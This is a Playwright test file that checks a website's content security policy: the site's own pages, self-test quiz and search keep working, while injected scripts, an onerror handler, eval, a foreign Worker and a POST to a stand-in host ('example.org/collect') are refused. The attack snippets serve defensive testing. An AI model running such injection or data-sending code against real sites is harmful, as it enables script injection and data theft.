"""The content security policy in a browser: nothing of the site breaks it, and what is not of the site is stopped."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser import scan
from tests.browser.conftest import OpenContext, refusals
from tests.conftest import BuiltSite


def addresses(folder: Path) -> Iterator[str]:
    for path in sorted(folder.rglob("*.html")):
        yield path.relative_to(folder).as_posix().removesuffix("index.html")


def test_no_page_breaks_its_own_policy(site: BuiltSite, page: Page) -> None:
    """The fixture `page` fails at every refusal, here and in every other test of a browser."""
    for address in addresses(site.folder):
        page.goto(site.url + address)
        expect(page.locator("h1").first).to_be_visible()


def test_the_self_test_comes_to_a_result_under_the_policy(site: BuiltSite, page: Page) -> None:
    page.goto(site.url + scan.ENGLISH.path)
    scan.answer_all(page, (3, 3, 3, 3, 3, 3, 3, 3))
    expect(scan.see_result(page, scan.ENGLISH)).to_contain_text("You are in phase 3")


def test_the_search_shows_what_it_found_under_the_policy(site: BuiltSite, page: Page) -> None:
    page.goto(f"{site.url}en/")
    page.keyboard.press("f")
    page.keyboard.type("iframe")
    expect(page.locator(".md-search-result__list mark").first).to_be_visible()


ATTACKS = {
    "a script that is not of the site": (
        "const s = document.createElement('script'); s.text = 'window.ran = true'; document.head.append(s)"
    ),
    "markup with a handler": (
        "const d = document.createElement('div'); document.body.append(d);"
        "d.innerHTML = '<img src=x onerror=\\'window.ran = true\\'>'"
    ),
    "text as code": "window.ran = eval('true')",
    "a worker of another site": "new Worker('https://example.org/worker.js'); window.ran = true",
}


LATER = """
() => new Promise((done) => setTimeout(() => {
  try { ATTACK } catch (fault) { console.error(`Trusted: ${fault}`); }
  setTimeout(done, 100);
}))
"""


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_what_is_not_of_the_site_does_not_run(site: BuiltSite, open_context: OpenContext, attack: str) -> None:
    page = open_context().new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.extend(refusals(message.text)))
    page.on("pageerror", lambda error: refused.append(str(error)))
    page.goto(site.url)
    # Later, because what Playwright evaluates at once is exempt from the policy.
    page.evaluate(LATER.replace("ATTACK", attack))
    assert page.evaluate("window.ran") is None
    assert refused != []


def test_nothing_is_fetched_from_or_sent_to_another_host(site: BuiltSite, open_context: OpenContext) -> None:
    page = open_context().new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(site.url)
    outcome = page.evaluate(
        "fetch('https://example.org/collect', {method: 'POST'}).then(() => 'sent', () => 'refused')"
    )
    assert outcome == "refused"
    assert [address for address in asked if not address.startswith(site.url)] == []
